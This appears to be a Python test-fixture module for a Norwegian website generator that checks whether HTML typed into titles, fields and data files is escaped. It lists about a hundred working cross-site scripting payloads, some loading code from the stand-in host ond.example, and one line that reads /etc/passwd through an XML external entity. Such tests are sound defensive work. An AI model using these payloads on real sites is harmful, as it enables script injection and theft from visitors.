"""HTML where a text is meant: in titles, and in every field and data file whose words a reader sees."""

import re
from typing import Any

from moteplass.model.slugs import slugify

# Each as the title of an article with a date: on its page, in lists, crumbs, the tab, JSON-LD, feeds, the sitemap and the search.
TITLES = (
    ("script", "<script>hostile()</script>"),
    ("script-src", "<script src=//ond.example/x.js></script>"),
    ("script-module", "<script type=module>hostile()</script>"),
    ("script-import-map", '<script type=importmap>{"imports":{"a":"//ond.example/"}}</script>'),
    ("script-speculation", '<script type=speculationrules>{"prefetch":[{"urls":["//ond.example"]}]}</script>'),
    ("script-double", "<<script>hostile()//<</script>"),
    ("script-nested", "<scr<script>ipt>hostile()</scr</script>ipt>"),
    ("iframe-srcdoc", "<iframe srcdoc='<script>hostile()</script>'></iframe>"),
    ("iframe-javascript", "<iframe src=javascript:hostile()></iframe>"),
    ("frameset", "<frameset onload=hostile()><frame src=//ond.example></frameset>"),
    ("portal", "<portal src=//ond.example></portal>"),
    ("object", "<object data=javascript:hostile()></object>"),
    ("object-away", "<object data=//ond.example></object>"),
    ("embed", "<embed src=//ond.example>"),
    ("applet", "<applet code=x archive=//ond.example/x.jar></applet>"),
    ("image-error", "<img src=x onerror=hostile()>"),
    ("image-slashes", "<img/src=x/onerror=hostile()>"),
    ("image-capitals", "<IMG SRC=x ONERROR=hostile()>"),
    ("image-half", "<img src=x onerror=hostile() alt="),
    ("image-away", "<img src=//ond.example/x>"),
    ("image-srcset", "<img srcset='//ond.example/x 1x'>"),
    ("picture-source", "<picture><source srcset=//ond.example/x><img></picture>"),
    ("image-legacy", "<image src=//ond.example/x onerror=hostile()>"),
    ("input-image", "<input type=image src=//ond.example/x>"),
    ("video-poster", "<video poster=//ond.example/x></video>"),
    ("video-error", "<video src=x onerror=hostile()></video>"),
    ("video-source-error", "<video><source onerror=hostile()></video>"),
    ("audio", "<audio src=//ond.example/x autoplay></audio>"),
    ("track", "<video><track default src=//ond.example/x></video>"),
    ("style", "<style>*{background:url(//ond.example/x)}</style>"),
    ("style-import", "<style>@import'//ond.example/x'</style>"),
    ("style-attribute", "<b style='background:url(//ond.example/x)'>x</b>"),
    ("style-animation", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=hostile()>"),
    ("link-stylesheet", "<link rel=stylesheet href=//ond.example/x>"),
    ("link-prefetch", "<link rel=prefetch href=//ond.example/x>"),
    ("link-preconnect", "<link rel=preconnect href=//ond.example>"),
    ("link-dns-prefetch", "<link rel=dns-prefetch href=//ond.example>"),
    ("link-manifest", "<link rel=manifest href=//ond.example/x>"),
    ("meta-refresh", "<meta http-equiv=refresh content='0;url=//ond.example'>"),
    ("meta-policy", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"),
    ("meta-cookie", "<meta http-equiv=set-cookie content=a=b>"),
    ("base", "<base href=//ond.example/>"),
    ("form", "<form action=//ond.example><button autofocus>x</button></form>"),
    ("form-autofocus", "<input autofocus onfocus=hostile()>"),
    ("select-autofocus", "<select autofocus onfocus=hostile()></select>"),
    ("button-formaction", "<button form=_search formaction=javascript:hostile()>x</button>"),
    ("input-outside-form", "<input form=_search name=q value=x onfocus=hostile() autofocus>"),
    ("keygen", "<keygen autofocus onfocus=hostile()>"),
    ("isindex", "<isindex action=javascript:hostile() type=submit>"),
    ("link-javascript", "<a href=javascript:hostile()>x</a>"),
    ("link-ping", "<a href=/ ping=//ond.example/>x</a>"),
    ("area", "<map name=x><area shape=default href=javascript:hostile()></map>"),
    ("svg-load", "<svg onload=hostile()>"),
    ("svg-script", "<svg><script>hostile()</script></svg>"),
    ("svg-script-href", "<svg><script href=//ond.example/x.js /></svg>"),
    ("svg-use", "<svg><use href=//ond.example/x.svg#a></use></svg>"),
    ("svg-image", "<svg><image href=//ond.example/x onerror=hostile()></image></svg>"),
    ("svg-animate", "<svg><a><animate attributeName=href values=javascript:hostile() /><text>x</text></a></svg>"),
    ("svg-begin", "<svg><animate onbegin=hostile() attributeName=x dur=1s></svg>"),
    ("svg-foreign", "<svg><foreignObject><iframe srcdoc='<script>hostile()</script>'></foreignObject></svg>"),
    ("math", "<math><maction actiontype=statusline xlink:href=javascript:hostile()>x</maction></math>"),
    ("math-mutation", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hostile()>'>"),
    ("svg-mutation", "<svg></p><style><a id='</style><img src=x onerror=hostile()>'>"),
    ("noscript-mutation", "<noscript><p title='</noscript><img src=x onerror=hostile()>'></noscript>"),
    ("template", "<template shadowrootmode=open><img src=x onerror=hostile()></template>"),
    ("details", "<details open ontoggle=hostile()>x</details>"),
    ("dialog", "<dialog open onclose=hostile()><form method=dialog><button>x</button></form></dialog>"),
    ("popover", "<div popover id=x onbeforetoggle=hostile()>x</div><button popovertarget=x>y</button>"),
    ("marquee", "<marquee onstart=hostile()>x</marquee>"),
    ("body", "<body onload=hostile() onpageshow=hostile() onhashchange=hostile()>"),
    ("custom-element", "<x-a is=x tabindex=1 onfocus=hostile() autofocus>x</x-a>"),
    ("editable", "<b contenteditable oninput=hostile()>x</b>"),
    ("access-key", "<b accesskey=x onclick=hostile()>x</b>"),
    ("table-background", "<table background=//ond.example/x><tr><td>x</table>"),
    ("plaintext", "<plaintext>"),
    ("xmp", "<xmp><p title='</xmp><img src=x onerror=hostile()>'></xmp>"),
    ("end-title", "</title><script>hostile()</script>"),
    ("end-style", "</style><script>hostile()</script>"),
    ("end-script", "</script><script>hostile()</script>"),
    ("end-textarea", "</textarea><script>hostile()</script>"),
    ("end-page", "</main></body></html><script>hostile()</script>"),
    ("comment", "<!--><img src=x onerror=hostile()>-->"),
    ("comment-bang", "<!-- --!><img src=x onerror=hostile()>"),
    ("comment-script", "<!--<script>"),
    ("cdata", "<![CDATA[><img src=x onerror=hostile()>]]>"),
    ("cdata-end", ']]><script xmlns="http://www.w3.org/1999/xhtml">hostile()</script>'),
    ("xml-stylesheet", "<?xml-stylesheet href='//ond.example/x.xsl' type='text/xsl'?>"),
    ("doctype", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;"),
    ("quote", '" onmouseover="hostile()" x="'),
    ("apostrophe", "' onmouseover='hostile()' x='"),
    ("no-quote", "x onmouseover=hostile() tabindex=1"),
    ("backtick", "`onmouseover=hostile()`"),
    ("entities", "Tegn: &lt;script&gt;hostile()&lt;/script&gt;"),
    ("numeric-entities", "Tegn: &#60;img src=x onerror=hostile()&#x3e;"),
    ("half-entities", "&#60script&#62hostile()&#60/script&#62"),
    ("utf-7", "+ADw-script+AD4-hostile()+ADw-/script+AD4-"),
    ("full-width", "＜script＞hostile()＜/script＞"),
)
# Ends whatever it may stand in, and would run.
ANY = "'\"></title></style></script><script>hostile()</script><img src=x onerror=hostile()>"
PICTURE = {"image": "../images/bilde.png", "alt": "Et bilde"}
# Kind and field → a text.
FIELDS = (
    *(f"{kind}.{field}" for kind in ("page", "article", "story", "campaign", "group", "event", "office") for field in ("summary", "owner")),
    *("page.source.name", "article.source.name", "story.writer", "story.consent.kept_by", "story.consent.guardian"),
    *("group.audience", "group.contact.role", "event.audience", "event.note"),
    *("office.area", "office.host.name"),
)
GROUPS: tuple[tuple[str, str, Any], ...] = (
    ("page-caption", "page", {**PICTURE, "caption": ANY, "credit": ANY}),
    ("page-alt", "page", {**PICTURE, "alt": ANY}),
    ("page-neutral", "page", {"sensitive": "true", "neutral_title": ANY, "slug": slugify(ANY)}),
    ("page-language", "page", {"title": f"På arabisk {ANY}", "lang": "ar"}),
    ("closing-note", "campaign.closing_note", "Takk. </style><script>hostile()</script> <iframe srcdoc='<script>hostile()</script>'></iframe>"),
    ("campaign-background", "campaign.background", [{"title": ANY, "link": "https://www.yr.no/"}]),
    ("office-address", "office.address", {"street": ANY, "postal_code": ANY, "city": ANY, "directions": ANY}),
    ("office-position", "office.position", {"place": ANY, "latitude": "60.39", "longitude": "5.32"}),
    ("office-people", "office.people", [{"role": ANY, "email": "post@apent.no"}]),
    ("office-translation", "office.translations", {"en": {"title": ANY, "area": ANY, "summary": ANY}}),
    *((f"{kind}-place", f"{kind}.place", dict.fromkeys(("name", "street", "postal_code", "city", "room", "directions"), ANY)) for kind in ("group", "event")),
    ("event-changed", "event", {"state": "moved", "moved_from": "2027-01-10", "note": ANY}),
)
OFFICE = {"title": f"Kontor {ANY}", "summary": ANY, "area": ANY, "host": {"name": ANY, "privacy": "https://www.yr.no/"}}
EVERYWHERE = ("iframe-srcdoc", "style", "image-srcset", "meta-refresh", "base", "input-image", "video-poster", "form", "object")
DATA: tuple[tuple[str, str, Any], ...] = (
    *(
        (f"theme-{name}", "themes", {f"tema-{name}": {"label": {"nb": text, "nn": text, "en": text}, "title": {"nb": f"T {text}"}}})
        for name, text in TITLES
        if name in EVERYWHERE
    ),
    ("menu", "menu", {"nb": [{"title": ANY, "link": "bli-med.md", "items": [{"title": f"Under {ANY}", "link": "/om/"}]}]}),
    ("pause", "pauses", {"pause": {"name": ANY, "dates": [{"first": "2027-06-20", "last": "2027-08-20"}]}}),
    ("gone", "gone", [{"address": "/helt-borte/", "since": "2026-01-01", "why": ANY}]),
    ("search-words", "search_words", {"compound_parts": [ANY], "synonyms": [[ANY, "gruppe"]], "stop_words": [ANY], "crisis": [ANY]}),
    ("checker", "accessibility", {"checkers": [{"name": ANY, "version": ANY, "problems": 0}]}),
    (
        "help-line",
        "help_lines",
        [
            {
                **dict.fromkeys(("id", "source"), ANY),
                **{name: {"nb": ANY, "nn": ANY, "en": ANY} for name in ("name", "audience", "hours")},
                "number": "116 111", "kind": "talk", "checked": "2026-11-22", "review_by": "2027-05-22",
            }
        ],
    ),
    (
        "reference",
        "files",
        {
            "data/references.yaml": (
                'gotaas2012: {authors: ["Gotaas, N."], year: 2012, title: Selvhjelp}\n'
                f"ond: {{authors: [{ANY!r}, \"B\"], year: {ANY!r}, title: {ANY!r}, series: {ANY!r}, link: https://www.yr.no/}}\n"
            ).replace("\\'", "''"),
            "pages/NAME.md": "---\ntitle: Et verk\nsummary: Et verk med kode.\nreferences: [ond]\n---\n\nSe under.\n",
        },
    ),
    (
        "tag",
        "files",
        {
            "data/tags.yaml": "selvhjelp: {nb: Selvhjelp}\ngrupper: {nb: Grupper}\nond: {nb: \"<iframe srcdoc='<script>hostile()</script>'>\"}\n",
            "articles/NAME.md": "---\ntitle: Et stikkord\nsummary: Et stikkord med kode.\ntags: [ond]\n---\n\nTekst.\n",
        },
    ),
)
# Names that become addresses too have no such signs; comments in a field would be read by all.
REFUSED = (
    *((f"title-{name}", "article.title", text) for name, text in TITLES if "<!--" in text),
    *(
        (f"municipality-{name}", "municipalities", {f"{9000 + number}": {"name": f"Sted {text}", "island": "true"}})
        for number, (name, text) in enumerate(TITLES)
        if name in EVERYWHERE
    ),
)
HARMLESS = (
    *((f"title-{name}", "article.title", text) for name, text in TITLES if "<!--" not in text),
    *((re.sub("[._]", "-", field), field, ANY) for field in FIELDS),
    *GROUPS,
    *DATA,
    ("own-office", "own", {**OFFICE, "translations": {"en": {"title": ANY, "area": ANY, "summary": ANY}}}),
    ("closed-office", "closed", {**OFFICE, "title": f"Stengt {ANY}"}),
)
